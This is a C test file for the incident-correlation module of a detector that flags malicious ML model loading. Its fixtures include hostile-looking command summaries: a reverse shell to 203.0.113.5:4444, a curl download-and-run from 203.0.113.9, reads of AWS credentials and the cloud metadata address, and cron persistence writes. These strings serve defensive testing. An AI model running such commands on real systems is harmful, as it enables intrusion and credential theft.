/* Incidents: correlation per lineage, chains, noise control, rendering. */
#include <cjson/cJSON.h>
#include <limits.h>
#include <stdlib.h>
#include "check.h"
#include "schema_check.h"
#include "detect/alert.h"
#include "detect/incident_step.h"
#include "detect/pathclass.h"
#include "output/incident_render.h"

#define S(x) ((uint64_t)(x)*1000000000ull)
#define MS(x) ((uint64_t)(x)*1000000ull)

/* Every record the table emits, rendered when it was emitted. */
struct rec {
	enum incident_record status;
	char id[INCIDENT_ID_LEN];
	size_t n_steps;
	int severity;
	char *json;
	char text[4096];
};

static struct rec recs[64];
static size_t n_recs;

static void capture(void *ctx, const struct incident *inc, enum incident_record st)
{
	struct rec *r;

	(void)ctx;
	if (n_recs >= sizeof(recs) / sizeof(recs[0]))
		return;
	r = &recs[n_recs++];
	r->status = st;
	memcpy(r->id, inc->id, sizeof(r->id));
	r->n_steps = inc->n_steps;
	r->severity = inc->severity;
	r->json = incident_to_json(inc, st, "node-1", 0);
	incident_to_text(inc, st, 0, r->text, sizeof(r->text));
}

static void reset_recs(void)
{
	for (size_t i = 0; i < n_recs; i++)
		free(recs[i].json);
	memset(recs, 0, sizeof(recs));
	n_recs = 0;
}

/* Limits off unless a test turns them on. */
static void table(struct incident_table *t, struct incident_config *cfg)
{
	reset_recs();
	cfg->host = cfg->host ? cfg->host : "node-1";
	cfg->boot_id = cfg->boot_id ? cfg->boot_id : "0b7c6f6e-1111-2222-3333-444455556666";
	if (!cfg->updates_per_sec)
		cfg->updates_per_sec = UINT_MAX;
	if (!cfg->global_per_sec)
		cfg->global_per_sec = UINT_MAX;
	cfg->emit = capture;
	CHECK(incident_table_init(t, cfg) == 0);
}

static const char *const tags_shell[] = { "AML.T0011.000", "AML.T0010.003", "T1059.004" };
static const char *const tags_conn[] = { "AML.T0011.000", "AML.T0025", "T1041" };

static struct incident_input in_(uint32_t loader, uint64_t mark, uint64_t ts, uint32_t pid,
				 enum incident_step_kind k, const char *rule, int sev,
				 const char *summary)
{
	struct incident_input in = {
		.loader_pid = loader,
		.mark_ns = mark,
		.ts_ns = ts,
		.pid = pid,
		.rule_id = rule,
		.rule_title = rule,
		.severity = sev,
		.tags = k == INCIDENT_STEP_SHELL_EXEC ? tags_shell : tags_conn,
		.n_tags = 3,
		.step = k,
		.summary = summary,
		.loader_exe = "/usr/bin/python3.11",
		.model_path = "/tmp/mwt/evil.pkl",
	};
	return in;
}

static cJSON *parse_rec(size_t i)
{
	cJSON *j = i < n_recs && recs[i].json ? cJSON_Parse(recs[i].json) : NULL;

	CHECK(j != NULL);
	return j;
}

static const char *jstr(const cJSON *o, const char *k)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, k);

	return cJSON_IsString(v) ? v->valuestring : NULL;
}

static double jnum(const cJSON *o, const char *k)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, k);

	return cJSON_IsNumber(v) ? v->valuedouble : -1;
}

static void test_reverse_shell_one_incident(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;
	cJSON *j, *tl, *ch;
	uint64_t prev = 0;

	table(&t, &cfg);
	in = in_(100, S(5), S(10), 100, INCIDENT_STEP_EXTERNAL_CONNECT,
		 "model-loader-external-connect", SEV_HIGH, "connect 203.0.113.5:4444");
	CHECK(incident_add(&t, &in, &inc) == INCIDENT_NEW);
	CHECK(inc && inc->severity == SEV_HIGH && inc->n_chains == 0);
	in = in_(100, S(5), S(11), 100, INCIDENT_STEP_SOCKET_STDIO, "model-loader-socket-stdio",
		 SEV_CRITICAL, "dup2 socket 203.0.113.5:4444 onto stdin/stdout/stderr");
	CHECK(incident_add(&t, &in, NULL) == INCIDENT_UPDATE);
	in.ts_ns += 1000; /* fd 1: the same step */
	CHECK(incident_add(&t, &in, NULL) == INCIDENT_NONE);
	in = in_(100, S(5), S(12), 101, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
		 SEV_CRITICAL, "exec /bin/sh -i");
	CHECK(incident_add(&t, &in, &inc) == INCIDENT_UPDATE);
	CHECK(n_recs == 3);
	CHECK(recs[0].status == INCIDENT_NEW);
	CHECK(recs[1].status == INCIDENT_UPDATE && recs[2].status == INCIDENT_UPDATE);
	CHECK_STR(recs[1].id, recs[0].id);
	CHECK_STR(recs[2].id, recs[0].id);
	/* model open + connect, + dup, + shell */
	CHECK(recs[0].n_steps == 2 && recs[1].n_steps == 3 && recs[2].n_steps == 4);
	CHECK(inc->severity == SEV_CRITICAL);
	CHECK(inc->n_chains == 1 &&
	      !strcmp(incident_chains[inc->chain_order[0]].id, "chain-reverse-shell"));
	CHECK(t.st.opened == 1 && t.count == 1);

	j = parse_rec(0);
	CHECK_STR(jstr(j, "status"), "new");
	CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(j, "chains")) == 0);
	cJSON_Delete(j);
	j = parse_rec(2);
	CHECK_STR(jstr(j, "record"), "incident");
	CHECK_STR(jstr(j, "status"), "update");
	CHECK_STR(jstr(j, "incident"), recs[0].id);
	CHECK_STR(jstr(j, "severity"), "critical");
	CHECK(jnum(j, "seq") == 3);
	ch = cJSON_GetArrayItem(cJSON_GetObjectItem(j, "chains"), 0);
	CHECK_STR(jstr(ch, "id"), "chain-reverse-shell");
	CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(ch, "tags")) >= 3);
	tl = cJSON_GetObjectItem(j, "timeline");
	CHECK(cJSON_GetArraySize(tl) == 4);
	CHECK_STR(jstr(cJSON_GetArrayItem(tl, 0), "step"), "model_open");
	CHECK_STR(jstr(cJSON_GetArrayItem(tl, 0), "summary"), "open /tmp/mwt/evil.pkl");
	CHECK_STR(jstr(cJSON_GetArrayItem(tl, 1), "step"), "external_connect");
	CHECK_STR(jstr(cJSON_GetArrayItem(tl, 2), "step"), "socket_stdio");
	CHECK(jnum(cJSON_GetArrayItem(tl, 2), "count") == 2);
	CHECK_STR(jstr(cJSON_GetArrayItem(tl, 3), "step"), "shell_exec");
	CHECK_STR(jstr(cJSON_GetArrayItem(tl, 3), "summary"), "exec /bin/sh -i");
	CHECK(jnum(cJSON_GetArrayItem(tl, 3), "pid") == 101);
	CHECK(jnum(cJSON_GetObjectItem(j, "suppressed"), "duplicates") == 1);
	CHECK(jnum(cJSON_GetObjectItem(j, "loader"), "pid") == 100);
	CHECK_STR(jstr(cJSON_GetObjectItem(j, "loader"), "model"), "/tmp/mwt/evil.pkl");
	cJSON_Delete(j);
	for (size_t i = 0; i < inc->n_steps; i++) {
		CHECK(inc->steps[i].ts_ns >= prev);
		prev = inc->steps[i].ts_ns;
	}
	CHECK(strstr(recs[2].text, "chain-reverse-shell") != NULL);
	CHECK(strstr(recs[2].text, recs[0].id) != NULL);
	incident_table_free(&t);
}

/* Two high alerts that together are a chain: the chain makes it critical. */
static void test_chain_raises_severity(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;

	table(&t, &cfg);
	in = in_(7, S(1), S(2), 8, INCIDENT_STEP_CREDENTIAL_READ, "model-loader-credential-read",
		 SEV_HIGH, "open /root/.aws/credentials");
	incident_add(&t, &in, &inc);
	CHECK(inc->severity == SEV_HIGH && recs[0].severity == SEV_HIGH);
	in = in_(7, S(1), S(3), 8, INCIDENT_STEP_EXTERNAL_CONNECT, "model-loader-external-connect",
		 SEV_HIGH, "connect 198.51.100.7:443");
	CHECK(incident_add(&t, &in, &inc) == INCIDENT_UPDATE);
	CHECK(inc->severity == SEV_CRITICAL && recs[1].severity == SEV_CRITICAL);
	CHECK(inc->n_chains == 1 &&
	      !strcmp(incident_chains[inc->chain_order[0]].id, "chain-credential-exfil"));
	CHECK_STR(inc->title, incident_chains[inc->chain_order[0]].title);
	incident_table_free(&t);
}

/* chain-persistence is ordered: a write before any exec is not it. */
static void test_persistence_needs_exec_first(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;

	table(&t, &cfg);
	in = in_(7, S(1), S(2), 7, INCIDENT_STEP_PERSISTENCE_WRITE,
		 "model-loader-persistence-write", SEV_HIGH, "write /root/.bashrc");
	incident_add(&t, &in, &inc);
	in = in_(7, S(1), S(3), 9, INCIDENT_STEP_DOWNLOADER_EXEC, "model-loader-downloader",
		 SEV_HIGH, "exec /usr/bin/curl http://x/p");
	incident_add(&t, &in, &inc);
	CHECK(inc->n_chains == 0 && inc->severity == SEV_HIGH);
	in = in_(7, S(1), S(4), 9, INCIDENT_STEP_PERSISTENCE_WRITE,
		 "model-loader-persistence-write", SEV_HIGH, "write /etc/cron.d/x");
	incident_add(&t, &in, &inc);
	CHECK(inc->n_chains == 1 &&
	      !strcmp(incident_chains[inc->chain_order[0]].id, "chain-persistence"));
	CHECK(inc->severity == SEV_CRITICAL);
	incident_table_free(&t);
}

static void test_two_lineages_two_ids(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	struct incident *a, *b, *c;

	table(&t, &cfg);
	in = in_(100, S(5), S(10), 100, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
		 SEV_CRITICAL, "exec /bin/sh");
	CHECK(incident_add(&t, &in, &a) == INCIDENT_NEW);
	in = in_(200, S(6), S(10), 200, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
		 SEV_CRITICAL, "exec /bin/sh");
	CHECK(incident_add(&t, &in, &b) == INCIDENT_NEW);
	/* pid reused by a later load: another lineage */
	in = in_(100, S(9), S(10), 100, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
		 SEV_CRITICAL, "exec /bin/sh");
	CHECK(incident_add(&t, &in, &c) == INCIDENT_NEW);
	CHECK(a != b && a != c && b != c);
	CHECK(strcmp(a->id, b->id) != 0 && strcmp(a->id, c->id) != 0 && strcmp(b->id, c->id) != 0);
	CHECK(t.count == 3 && n_recs == 3);
	CHECK(incident_find(&t, 200, S(6)) == b);
	CHECK(incident_find(&t, 200, S(7)) == NULL);
	incident_table_free(&t);
}

static void test_duplicates_collapse(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;
	cJSON *j, *step;

	table(&t, &cfg);
	for (int i = 0; i < 5; i++) {
		in = in_(3, S(1), S(2) + MS(i), 30 + (uint32_t)i, INCIDENT_STEP_SHELL_EXEC,
			 "model-loader-shell", SEV_CRITICAL, "exec /bin/sh -c id");
		CHECK(incident_add(&t, &in, &inc) == (i ? INCIDENT_NONE : INCIDENT_NEW));
	}
	CHECK(n_recs == 1);
	CHECK(inc->n_steps == 2 && inc->steps[1].count == 5);
	CHECK(inc->steps[1].last_ns == S(2) + MS(4));
	CHECK(inc->sup.duplicates == 4 && t.st.duplicates == 4);
	CHECK(inc->n_pids == 6); /* the loader and five shells */
	/* same summary, another rule: a step of its own */
	in.rule_id = "model-loader-exec-from-temp";
	in.step = INCIDENT_STEP_TEMP_EXEC;
	CHECK(incident_add(&t, &in, &inc) == INCIDENT_UPDATE);
	CHECK(inc->n_steps == 3);
	j = parse_rec(1);
	step = cJSON_GetArrayItem(cJSON_GetObjectItem(j, "timeline"), 1);
	CHECK(jnum(step, "count") == 5);
	CHECK(jstr(step, "last_seen") != NULL);
	CHECK(jnum(cJSON_GetObjectItem(j, "suppressed"), "duplicates") == 4);
	CHECK(jnum(j, "alerts") == 6);
	cJSON_Delete(j);
	incident_table_free(&t);
}

static void test_per_incident_rate_limit(void)
{
	struct incident_config cfg = { .updates_per_sec = 1 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;
	char s[64];
	cJSON *j;

	table(&t, &cfg);
	for (int i = 0; i < 4; i++) {
		snprintf(s, sizeof(s), "connect 203.0.113.%d:4444", i);
		in = in_(3, S(1), S(2) + MS(i), 3, INCIDENT_STEP_EXTERNAL_CONNECT,
			 "model-loader-external-connect", SEV_HIGH, s);
		CHECK(incident_add(&t, &in, &inc) == (i == 0 ? INCIDENT_NEW :
						      i == 1 ? INCIDENT_UPDATE :
							       INCIDENT_NONE));
	}
	CHECK(n_recs == 2);
	CHECK(inc->sup.rate_limited == 2 && t.st.rate_limited == 2);
	CHECK(inc->pending && t.n_waiting == 1);
	/* still inside the window: the tick holds it too */
	CHECK(incident_tick(&t, S(2) + MS(500)) == 0);
	/* the window has passed: the deferred update goes out, whole */
	CHECK(incident_tick(&t, S(3) + MS(10)) == 1);
	CHECK(n_recs == 3 && recs[2].status == INCIDENT_UPDATE && recs[2].n_steps == 5);
	CHECK(!inc->pending && t.n_waiting == 0);
	j = parse_rec(2);
	CHECK(jnum(cJSON_GetObjectItem(j, "suppressed"), "rate_limited") == 2);
	CHECK(jnum(j, "folded") == 2);
	CHECK(cJSON_GetArraySize(cJSON_GetObjectItem(j, "timeline")) == 5);
	cJSON_Delete(j);
	CHECK(incident_tick(&t, S(10)) == 0); /* nothing left */

	/* another burst; this time the next alert, not a tick, carries it */
	for (int i = 0; i < 3; i++) {
		snprintf(s, sizeof(s), "exec /bin/sh -c step%d", i);
		in = in_(3, S(1), S(20) + MS(i), 3, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
			 SEV_CRITICAL, s);
		CHECK(incident_add(&t, &in, &inc) == (i == 0 ? INCIDENT_UPDATE : INCIDENT_NONE));
	}
	in = in_(3, S(1), S(21) + MS(5), 3, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
		 SEV_CRITICAL, "exec /bin/sh -c late");
	CHECK(incident_add(&t, &in, &inc) == INCIDENT_UPDATE);
	CHECK(n_recs == 5 && recs[4].n_steps == 9);
	j = parse_rec(4);
	CHECK(jnum(cJSON_GetObjectItem(j, "suppressed"), "rate_limited") == 4);
	CHECK(jnum(j, "folded") == 3);
	cJSON_Delete(j);
	CHECK(incident_tick(&t, S(30)) == 0);
	incident_table_free(&t);
}

static void test_global_rate_limit(void)
{
	struct incident_config cfg = { .global_per_sec = 1, .global_burst = 2 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;
	cJSON *j;

	table(&t, &cfg);
	for (uint32_t i = 0; i < 3; i++) {
		in = in_(10 + i, S(1), S(100), 10 + i, INCIDENT_STEP_SHELL_EXEC,
			 "model-loader-shell", SEV_CRITICAL, "exec /bin/sh");
		CHECK(incident_add(&t, &in, &inc) == (i < 2 ? INCIDENT_NEW : INCIDENT_NONE));
	}
	CHECK(n_recs == 2 && t.st.global_limited == 1 && inc->sup.global_limited == 1);
	CHECK(inc->seq == 0 && inc->pending);
	/* half a token: still held */
	CHECK(incident_tick(&t, S(100) + MS(500)) == 0);
	/* a token: the held record goes out, and as "new" (none was sent) */
	CHECK(incident_tick(&t, S(101)) == 1);
	CHECK(n_recs == 3 && recs[2].status == INCIDENT_NEW);
	CHECK_STR(recs[2].id, inc->id);
	j = parse_rec(2);
	CHECK(jnum(cJSON_GetObjectItem(j, "suppressed"), "global_limited") == 1);
	cJSON_Delete(j);
	/* the bucket is empty again: a close is deferred, then sent */
	CHECK(incident_lineage_exited(&t, 10, S(1), S(101)) == INCIDENT_NONE);
	CHECK(t.st.closes_deferred == 1 && incident_find(&t, 10, S(1)) != NULL);
	CHECK(incident_tick(&t, S(102)) == 1);
	CHECK(n_recs == 4 && recs[3].status == INCIDENT_CLOSED);
	CHECK(incident_find(&t, 10, S(1)) == NULL && t.count == 2);
	incident_table_free(&t);
}

static void test_closed_summary(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	cJSON *j, *sum;

	table(&t, &cfg);
	in = in_(50, S(1), S(2), 51, INCIDENT_STEP_DOWNLOADER_EXEC, "model-loader-downloader",
		 SEV_HIGH, "exec /usr/bin/curl -o /tmp/x http://203.0.113.9/x");
	incident_add(&t, &in, NULL);
	in = in_(50, S(1), S(4), 52, INCIDENT_STEP_TEMP_EXEC, "model-loader-exec-from-temp",
		 SEV_HIGH, "exec /tmp/x");
	incident_add(&t, &in, NULL);
	incident_add(&t, &in, NULL);                                         /* a duplicate */
	CHECK(incident_lineage_exited(&t, 51, S(1), S(9)) == INCIDENT_NONE); /* not a key */
	CHECK(incident_lineage_exited(&t, 50, S(1), S(9)) == INCIDENT_CLOSED);
	CHECK(incident_find(&t, 50, S(1)) == NULL && t.count == 0 && t.st.closed == 1);
	CHECK(n_recs == 3 && recs[2].status == INCIDENT_CLOSED);
	CHECK_STR(recs[2].id, recs[0].id);
	j = parse_rec(2);
	CHECK_STR(jstr(j, "status"), "closed");
	CHECK_STR(jstr(j, "time"), "1970-01-01T00:00:09.000Z");
	sum = cJSON_GetObjectItem(j, "summary");
	CHECK_STR(jstr(sum, "reason"), "exited");
	CHECK(jnum(sum, "steps") == 3);
	CHECK(jnum(sum, "alerts") == 3);
	CHECK(jnum(sum, "distinct_pids") == 3);
	CHECK(jnum(sum, "duration_ms") == 3000); /* model open at 1 s to the last step at 4 s */
	CHECK_STR(cJSON_GetArrayItem(cJSON_GetObjectItem(sum, "chains"), 0)->valuestring,
		  "chain-download-exec");
	CHECK(jnum(cJSON_GetObjectItem(j, "suppressed"), "duplicates") == 1);
	cJSON_Delete(j);
	CHECK(strstr(recs[2].text, "closed (exited)") != NULL);
	/* a second exit for the same lineage is nothing */
	CHECK(incident_lineage_exited(&t, 50, S(1), S(10)) == INCIDENT_NONE);
	incident_table_free(&t);
}

/* new, update and closed: each carries the version after "record", and
 * none of its parts (loader, timeline, summary) does. */
static void test_json_schema_version(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	cJSON *j;

	table(&t, &cfg);
	in = in_(60, S(1), S(2), 61, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell", SEV_CRITICAL,
		 "exec /bin/sh");
	incident_add(&t, &in, NULL);
	in = in_(60, S(1), S(3), 61, INCIDENT_STEP_EXTERNAL_CONNECT,
		 "model-loader-external-connect", SEV_HIGH, "connect 203.0.113.5:4444");
	incident_add(&t, &in, NULL);
	CHECK(incident_lineage_exited(&t, 60, S(1), S(9)) == INCIDENT_CLOSED);
	CHECK(n_recs == 3 && recs[0].status == INCIDENT_NEW && recs[1].status == INCIDENT_UPDATE &&
	      recs[2].status == INCIDENT_CLOSED);
	for (size_t i = 0; i < n_recs; i++) {
		j = parse_rec(i);
		CHECK(j && j->child && !strcmp(j->child->string, "record"));
		CHECK(schema_version_index(j) == 1);
		CHECK(schema_version_nested(j) == 0);
		cJSON_Delete(j);
	}
	incident_table_free(&t);
}

static void test_id_stable(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;
	char a[INCIDENT_ID_LEN], b[INCIDENT_ID_LEN];

	incident_make_id("node-1", "boot-a", 100, S(5), a);
	incident_make_id("node-1", "boot-a", 100, S(5), b);
	CHECK_STR(a, b);
	CHECK(strlen(a) == 20 && !strncmp(a, "mlw-", 4) && strspn(a + 4, "0123456789abcdef") == 16);
	/* pinned: an id must not change between versions on the same boot */
	CHECK_STR(a, "mlw-a1d9ee33153f6080");
	incident_make_id("node-2", "boot-a", 100, S(5), b);
	CHECK(strcmp(a, b) != 0);
	incident_make_id("node-1", "boot-b", 100, S(5), b);
	CHECK(strcmp(a, b) != 0);
	incident_make_id("node-1", "boot-a", 101, S(5), b);
	CHECK(strcmp(a, b) != 0);
	incident_make_id("node-1", "boot-a", 100, S(5) + 1, b);
	CHECK(strcmp(a, b) != 0);

	/* an mlwatch restart on the same boot names the lineage the same */
	for (int run = 0; run < 2; run++) {
		cfg = (struct incident_config){ .host = "node-1", .boot_id = "boot-a" };
		table(&t, &cfg);
		in = in_(100, S(5), S(6), 100, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
			 SEV_CRITICAL, "exec /bin/sh");
		incident_add(&t, &in, &inc);
		CHECK_STR(inc->id, a);
		incident_table_free(&t);
	}
}

static void test_table_full(void)
{
	struct incident_config cfg = { .max_open = 3 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;
	cJSON *j;

	table(&t, &cfg);
	for (uint32_t i = 1; i <= 3; i++) {
		in = in_(i, S(1), S(i), i, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell",
			 SEV_CRITICAL, "exec /bin/sh");
		incident_add(&t, &in, NULL);
	}
	/* lineage 1 is active again: lineage 2 is now the least recent */
	in = in_(1, S(1), S(4), 1, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell", SEV_CRITICAL,
		 "exec /bin/bash");
	incident_add(&t, &in, NULL);
	in = in_(4, S(1), S(5), 4, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell", SEV_CRITICAL,
		 "exec /bin/sh");
	CHECK(incident_add(&t, &in, &inc) == INCIDENT_NEW);
	CHECK(t.count == 3 && t.st.evicted == 1 && t.st.opened == 4);
	CHECK(incident_find(&t, 2, S(1)) == NULL);
	CHECK(incident_find(&t, 1, S(1)) != NULL && incident_find(&t, 4, S(1)) == inc);
	/* the evicted one is closed with its story, before the new one */
	CHECK(n_recs == 6 && recs[4].status == INCIDENT_CLOSED && recs[5].status == INCIDENT_NEW);
	CHECK_STR(recs[4].id, recs[1].id);
	j = parse_rec(4);
	CHECK_STR(jstr(cJSON_GetObjectItem(j, "summary"), "reason"), "evicted");
	cJSON_Delete(j);
	incident_table_free(&t);
}

/* The worst a storm can make of the table: every incident at its step and
 * pid caps, more lineages than it holds. What it holds stays within
 * incident_table_max_bytes, comes near it, and goes back down at close. */
static void test_memory_bounded_and_accounted(void)
{
	struct incident_config cfg = { .max_open = INCIDENT_MIN_OPEN };
	struct incident_table t;
	char sum[64];
	size_t base;

	table(&t, &cfg);
	base = incident_table_bytes(&t);
	for (uint32_t l = 1; l <= 2 * INCIDENT_MIN_OPEN; l++)
		for (uint32_t i = 0; i < 2 * INCIDENT_PIDS_MAX; i++) {
			struct incident_input in;

			snprintf(sum, sizeof(sum), "exec /bin/sh -c %u", i);
			in = in_(l, S(1), S(2) + i, 1000 + i, INCIDENT_STEP_SHELL_EXEC,
				 "model-loader-shell", SEV_CRITICAL, sum);
			incident_add(&t, &in, NULL);
		}
	CHECK(t.st.peak_open == INCIDENT_MIN_OPEN && t.st.evicted == INCIDENT_MIN_OPEN);
	CHECK(t.st.peak_bytes <= incident_table_max_bytes(&t));
	CHECK(t.st.peak_bytes >= incident_table_max_bytes(&t) / 10 * 9);
	incident_close_all(&t, S(100));
	CHECK(incident_table_bytes(&t) == base);
	incident_table_free(&t);
}

/* Context steps wait for their lineage's incident in a ring of
 * INCIDENT_CONTEXT_LINEAGES lineages, found by hash: the newest are
 * replayed into the incident when it opens, the oldest overwritten and
 * counted, and a lineage that exits takes its context with it. */
static void test_context_held_and_replayed(void)
{
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident *inc;
	const uint32_t n = INCIDENT_CONTEXT_LINEAGES + 44;

	table(&t, &cfg);
	for (uint32_t l = 1; l <= n; l++) {
		struct incident_input in = in_(l, S(1), S(2), l, INCIDENT_STEP_EXTERNAL_CONNECT,
					       "model-loader-egress-after-load", SEV_LOW,
					       "connect 203.0.113.5:443");

		in.context = true;
		CHECK(incident_add(&t, &in, NULL) == INCIDENT_NONE);
		incident_add(&t, &in, NULL); /* the same again: one step */
	}
	CHECK(t.count == 0 && t.st.context_kept == n && t.st.context_dropped == 44);
	/* newest first: each replay empties the head of its hash chain */
	for (uint32_t l = n; l >= 1; l--) {
		struct incident_input in = in_(l, S(1), S(3), l, INCIDENT_STEP_SHELL_EXEC,
					       "model-loader-shell", SEV_CRITICAL, "exec /bin/sh");

		if (l == n - 1)
			incident_lineage_exited(&t, l, S(1), S(3));
		incident_add(&t, &in, &inc);
		/* origin, (context,) shell */
		CHECK(inc && inc->n_steps == (l <= 44 || l == n - 1 ? 2u : 3u));
	}
	incident_table_free(&t);
}

static void test_timeline_cap_and_order(void)
{
	struct incident_config cfg = { .max_steps = 4 };
	struct incident_table t;
	struct incident_input in;
	struct incident *inc;
	char s[64];

	table(&t, &cfg);
	/* arrival out of order: the timeline is still by time */
	in = in_(3, S(1), S(5), 3, INCIDENT_STEP_OTHER, "r", SEV_MEDIUM, "b");
	incident_add(&t, &in, &inc);
	in = in_(3, S(1), S(3), 3, INCIDENT_STEP_OTHER, "r", SEV_MEDIUM, "a");
	incident_add(&t, &in, &inc);
	CHECK(inc->n_steps == 3 && !strcmp(inc->steps[1].summary, "a") &&
	      !strcmp(inc->steps[2].summary, "b"));
	for (int i = 0; i < 10; i++) {
		snprintf(s, sizeof(s), "step %d", i);
		in = in_(3, S(1), S(6 + i), 3, INCIDENT_STEP_OTHER, "r", SEV_MEDIUM, s);
		incident_add(&t, &in, &inc);
	}
	CHECK(inc->n_steps == 4 && inc->sup.steps_cut == 9 && t.st.steps_cut == 9);
	/* a cut step still counts for severity and chains */
	in = in_(3, S(1), S(30), 3, INCIDENT_STEP_METADATA_CONNECT, "model-loader-metadata-connect",
		 SEV_CRITICAL, "connect 169.254.169.254:80");
	incident_add(&t, &in, &inc);
	in = in_(3, S(1), S(31), 3, INCIDENT_STEP_EXTERNAL_CONNECT, "model-loader-external-connect",
		 SEV_HIGH, "connect 203.0.113.1:443");
	incident_add(&t, &in, &inc);
	CHECK(inc->severity == SEV_CRITICAL && inc->n_chains == 1);
	CHECK(!strcmp(incident_chains[inc->chain_order[0]].id, "chain-cloud-credential-theft"));
	CHECK(incident_close_all(&t, S(40)) == 1);
	CHECK(n_recs > 0 && recs[n_recs - 1].status == INCIDENT_CLOSED);
	CHECK(strstr(recs[n_recs - 1].json, "\"steps\":15") != NULL);
	CHECK(strstr(recs[n_recs - 1].json, "\"reason\":\"shutdown\"") != NULL);
	incident_table_free(&t);
}

/* Shutdown closes everything, the global limit or not. */
static void test_close_all_forced(void)
{
	struct incident_config cfg = { .global_per_sec = 1, .global_burst = 1 };
	struct incident_table t;
	struct incident_input in;

	table(&t, &cfg);
	for (uint32_t i = 0; i < 3; i++) {
		in = in_(10 + i, S(1), S(100), 10 + i, INCIDENT_STEP_SHELL_EXEC,
			 "model-loader-shell", SEV_CRITICAL, "exec /bin/sh");
		incident_add(&t, &in, NULL);
	}
	CHECK(n_recs == 1);
	CHECK(incident_close_all(&t, S(100)) == 3);
	CHECK(n_recs == 4 && t.count == 0 && t.n_waiting == 0 && t.st.forced == 3);
	for (size_t i = 1; i < n_recs; i++)
		CHECK(recs[i].status == INCIDENT_CLOSED);
	incident_table_free(&t);
}

static bool valid_utf8(const unsigned char *s)
{
	while (*s) {
		size_t n = *s < 0x80           ? 1 :
			   (*s & 0xe0) == 0xc0 ? 2 :
			   (*s & 0xf0) == 0xe0 ? 3 :
			   (*s & 0xf8) == 0xf0 ? 4 :
						 0;

		if (!n || (n == 2 && *s < 0xc2))
			return false;
		for (size_t i = 1; i < n; i++)
			if ((s[i] & 0xc0) != 0x80)
				return false;
		s += n;
	}
	return true;
}

static bool all_strings_valid(const cJSON *j)
{
	if (cJSON_IsString(j) && !valid_utf8((const unsigned char *)j->valuestring))
		return false;
	for (const cJSON *c = j->child; c; c = c->next)
		if (!all_strings_valid(c))
			return false;
	return true;
}

static void test_json_hostile_strings(void)
{
	static char big[6000];
	struct incident_config cfg = { 0 };
	struct incident_table t;
	struct incident_input in;
	const char hostile[] = "exec /bin/sh -c \"x\"\n{\"record\":\"fake\"}\xff\xfe\xc0\xaf\\";
	cJSON *j;

	memset(big, 'A', sizeof(big) - 1);
	big[100] = '\xe2'; /* a sequence cut short */
	table(&t, &cfg);
	in = in_(3, S(1), S(2), 3, INCIDENT_STEP_SHELL_EXEC, "model-loader-shell", SEV_CRITICAL,
		 hostile);
	in.loader_exe = "/usr/bin/py\xffthon\n";
	in.model_path = "/tmp/\xed\xa0\x80.pkl"; /* a UTF-16 surrogate */
	incident_add(&t, &in, NULL);
	in = in_(3, S(1), S(3), 3, INCIDENT_STEP_OTHER, "r\xff", SEV_HIGH, big);
	incident_add(&t, &in, NULL);
	CHECK(n_recs == 2);
	for (size_t i = 0; i < n_recs; i++) {
		CHECK(recs[i].json && valid_utf8((const unsigned char *)recs[i].json));
		CHECK(recs[i].json && !strchr(recs[i].json, '\n'));
		j = parse_rec(i);
		CHECK(j && all_strings_valid(j));
		CHECK(j && !strcmp(jstr(j, "status"), i ? "update" : "new"));
		cJSON_Delete(j);
		CHECK(!strchr(recs[i].text, '\n'));
	}
	j = parse_rec(1);
	CHECK(strlen(jstr(cJSON_GetArrayItem(cJSON_GetObjectItem(j, "timeline"), 2), "summary")) <
	      INCIDENT_SUMMARY_MAX);
	CHECK(strstr(jstr(cJSON_GetArrayItem(cJSON_GetObjectItem(j, "timeline"), 1), "summary"),
		     "{\"record\":\"fake\"}") != NULL);
	cJSON_Delete(j);
	incident_table_free(&t);
}

/* The collector's side: an alert becomes a step with a readable summary. */
static void test_input_from_alert(void)
{
	static struct event ev;
	static struct facts f;
	struct mlw_connect conn;
	struct rule shell = { .id = "model-loader-shell",
			      .title = "Shell",
			      .severity = SEV_CRITICAL,
			      .tags = { "AML.T0011.000", "T1059.004" },
			      .match = { .kinds = 1u << MLW_EV_EXEC, .exec_any = EXEC_SHELL } };
	struct rule temp = { .id = "model-loader-exec-from-temp",
			     .severity = SEV_HIGH,
			     .match = { .kinds = 1u << MLW_EV_EXEC, .exec_any = EXEC_FROM_TEMP } };
	struct rule ext = { .id = "model-loader-external-connect",
			    .severity = SEV_HIGH,
			    .match = { .kinds = 1u << MLW_EV_CONNECT } };
	struct proc loader = { .pid = 10, .exe = "/usr/bin/python3" };
	struct alert a = {
		.rule = &shell, .ev = &ev, .facts = &f, .loader = &loader, .loader_pid = 10
	};
	struct incident_input in;
	char sum[INCIDENT_SUMMARY_MAX];

	loader.model.resolved_path = "/tmp/m.pkl";
	memset(&ev, 0, sizeof(ev));
	ev.kind = MLW_EV_EXEC;
	ev.hdr.tgid = 20;
